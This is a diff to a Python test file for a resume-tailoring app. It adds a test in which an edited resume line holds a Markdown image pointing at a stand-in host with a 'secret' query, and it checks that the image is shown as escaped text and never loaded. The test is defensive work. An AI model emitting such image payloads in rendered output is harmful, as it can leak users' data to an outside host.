@@ -12,6 +12,7 @@ from resume_core.model import Snapshot
 from resume_core.render import render_markdown
 from resume_core.store import open_store
 from tailor_banks import make_posting
+from ui.markdown import escape_markdown
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
 from resume_fixtures import load_tailored, overlong  # noqa: E402
@@ -52,7 +53,7 @@ def test_overlong_resume_reports_dropped_lines():
     assert not at.exception
     assert "left out to fit 1 page(s)" in "\n".join(e.label for e in at.expander)
     lowest = min((line for entry in overlong().experience for line in entry.bullets), key=lambda line: line.score)
-    assert lowest.text in texts(at)
+    assert escape_markdown(lowest.text) in texts(at)  # shown as text, never as Markdown
     at.toggle(key="export_two_pages").set_value(True).run()
     assert not any("left out to fit 1 page" in e.label for e in at.expander)
 
@@ -66,6 +67,16 @@ def test_edits_flow_into_the_pdf_and_show_as_edited():
     assert "*[edited]* Coached four engineers" in texts(at)
     result = at.session_state["tp_export_result"][1]
     assert "Coached four engineers" in result.markdown and result.check.ok
+
+
+def test_an_edited_line_with_an_image_is_listed_as_text_not_loaded():
+    resume = load_tailored()
+    at = export_page(resume)
+    image = "![x](https://evil.example/?q=secret)"
+    at.text_area[0].set_value(render_markdown(resume).replace("Mentored four engineers", f"Mentored {image}")).run()
+    assert not at.exception
+    assert not any("![x](" in m.value for m in at.markdown)
+    assert any(escape_markdown(f"Mentored {image}") in m.value for m in at.markdown)
 
 
 def test_a_saved_snapshot_can_be_exported_without_a_current_resume(workspace):
